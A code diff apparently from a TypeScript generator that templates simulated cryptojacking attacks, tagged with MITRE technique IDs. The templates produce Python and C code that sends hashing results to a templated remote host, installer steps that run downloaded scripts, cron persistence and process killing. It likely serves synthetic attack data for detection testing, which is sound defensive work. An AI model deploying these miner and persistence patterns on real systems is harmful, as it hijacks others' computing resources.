@@ -15,17 +15,19 @@ for i in range(${rounds}):
   while time.monotonic() < until: nonce = hashlib.sha256(nonce).digest()
   if i % ${draw.int(4, 12)} == 0:
     try: pool.sendall((json.dumps({"id": i, "method": "submit", "params": [nonce.hex()]}) + "\\n").encode())
-    except OSError: break
+    except OSError: pass
   time.sleep(${draw.int(1, 3)})`;
 }
 
 function source(draw: Draw, place: Place): string {
   const { host, port } = remote(draw, place);
   return `#include <arpa/inet.h>
+#include <signal.h>
 #include <stdio.h>
 #include <time.h>
 #include <unistd.h>
 int main(void) {
+  signal(SIGPIPE, SIG_IGN);
   struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(${port})};
   inet_pton(AF_INET, "${host}", &a.sin_addr);
   int s = socket(AF_INET, SOCK_STREAM, 0);
@@ -46,7 +48,7 @@ const built: Attack = {
   family: 'processor-used',
   techniques: ['T1496', 'T1036.005', 'T1571'],
   as: 'either',
-  needs: ['python3', 'gcc', 'taskset', 'crontab'],
+  needs: ['python3', 'gcc', 'taskset', 'crontab', 'sudo'],
   lines: (draw, place) => {
     const folder = workFolder(draw, place);
     const name = draw.pick([
@@ -108,7 +110,7 @@ const installer: Attack = {
   family: 'processor-used',
   techniques: ['T1496', 'T1105', 'T1053.003', 'T1489'],
   as: 'either',
-  needs: ['python3', 'curl', 'crontab', 'pkill'],
+  needs: ['python3', 'curl', 'crontab'],
   lines: (draw, place) => {
     const folder = workFolder(draw, place);
     const name = draw.word();
@@ -137,7 +139,7 @@ const installer: Attack = {
       `bash ${script}`,
       `sleep ${draw.int(15, 60)}`,
       draw.pick([`pgrep -fl ${name}`, 'ps aux | tail -4', 'crontab -l']),
-      ...maybe(draw, 0.3, `pkill -f ${name}`),
+      ...maybe(draw, 0.3, `pkill -f ${folder}/${name}`),
     ];
   },
 };
